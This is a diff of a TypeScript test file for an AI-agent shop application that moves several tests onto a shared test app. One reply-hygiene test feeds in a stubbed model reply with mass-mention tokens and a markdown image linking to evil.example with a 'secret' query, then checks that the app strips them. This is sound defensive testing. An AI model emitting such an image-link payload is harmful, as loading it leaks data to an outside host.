@@ -7,12 +7,15 @@ import { pruneRuns } from '../../src/runs/history/prune-runs.ts'
 import { openToolSets } from '../../src/runs/loop/tool-set.ts'
 import { type MessageId, newId } from '../../src/shared/ids.ts'
 import { textsOf } from '../support/model-script.ts'
+import { shareInFile } from '../support/share-in-file.ts'
 import { startRefundingModel } from '../support/start-refunding-model.ts'
-import { general, startShop } from '../support/start-shop.ts'
-import { startTestApp } from '../support/start-test-app.ts'
+import { general, startShop, startShopOn } from '../support/start-shop.ts'
+import { loopback, startTestApp } from '../support/start-test-app.ts'
 import { startStubAnthropic } from '../support/stub-anthropic.ts'
 import { until } from '../support/until.ts'
 import { verifies } from '../support/verifies.ts'
+
+const sharedApp = shareInFile(() => startTestApp({ env: loopback }))
 
 verifies(
   'events:retention',
@@ -144,7 +147,7 @@ verifies(
 
 verifies('models:providers', 'Anthropic is asked to cache the stable beginning of the prompt', async () => {
   await using model = await startStubAnthropic([{ text: 'Fine.' }])
-  await using shop = await startShop({ env: model.env })
+  await using shop = await startShopOn(await sharedApp(), { model })
   const webhook = await shop.createWebhook()
   await shop.endedRun((await shop.ring(webhook, '{"n":1}')).runId)
   await shop.endedRun((await shop.ring(webhook, '{"n":2}')).runId)
@@ -163,8 +166,8 @@ verifies('runs:model-errors', 'text that a provider refuses is made safe and sen
       ? { text: 'Read.' }
       : { calls: [{ name: 'shop__get_order', input: { id: 'A-1' } }] }
   })
-  await using shop = await startShop({
-    env: model.env,
+  await using shop = await startShopOn(await sharedApp(), {
+    model,
     answer: (_request, response) => response.setHeader('content-type', 'text/plain').end('a\0b'),
   })
   const run = await shop.endedRun((await shop.ring(await shop.createWebhook())).runId)
@@ -179,7 +182,7 @@ verifies('runs:reply-hygiene', 'a reply mentions no groups and loads no image', 
   await using model = await startStubAnthropic([
     { text: 'Hey @everyone, <!channel> look: ![x](https://evil.example/?q=secret)' },
   ])
-  await using shop = await startShop({ env: model.env })
+  await using shop = await startShopOn(await sharedApp(), { model })
   await shop.endedRun((await shop.ring(await shop.createWebhook())).runId)
   const text = (await shop.replies())[0]?.text ?? ''
   assert.ok(!/@everyone|<!channel>|!\[/.test(text), text)
@@ -203,7 +206,7 @@ verifies(
   'a reply whose channel is gone ends the run as failed, with the text kept',
   async () => {
     await using model = await startRefundingModel('Too late.')
-    await using shop = await startShop({ env: model.env })
+    await using shop = await startShopOn(await sharedApp(), { model })
     const channel = await shop.app.api<{ id: string }>('POST', '/api/v1/channels', { name: 'short-lived' })
     const webhook = await shop.createWebhook({ channelId: channel.body.id })
     const send = async (headers: Record<string, string> = {}) => {
@@ -223,7 +226,7 @@ verifies(
     await shop.app.api('POST', `/api/v1/approvals/${waiting.toolCalls[0]?.approvalId}/deny`, {})
     const run = await shop.endedRun(runId)
     assert.deepEqual([run.status, run.error?.code, run.reply?.text], ['failed', 'reply_refused', 'Too late.'])
-    assert.notEqual(channel.body.id, general)
+    assert.notEqual(channel.body.id, shop.channelId)
     // A retry with Prefer: wait gets the outcome, and no text that is in no channel.
     const { run: told } = await send({ prefer: 'wait=20' })
     assert.deepEqual(told, { status: 'failed', reply: null, error: run.error })
@@ -243,8 +246,8 @@ verifies(
         ? { text: 'A dot.' }
         : { calls: [{ name: 'shop__get_order', input: { id: 'A-1' } }] },
     )
-    await using shop = await startShop({
-      env: model.env,
+    await using shop = await startShopOn(await sharedApp(), {
+      model,
       answer: (_request, response) => response.setHeader('content-type', 'image/png').end(png),
     })
     const run = await shop.endedRun((await shop.ring(await shop.createWebhook())).runId)
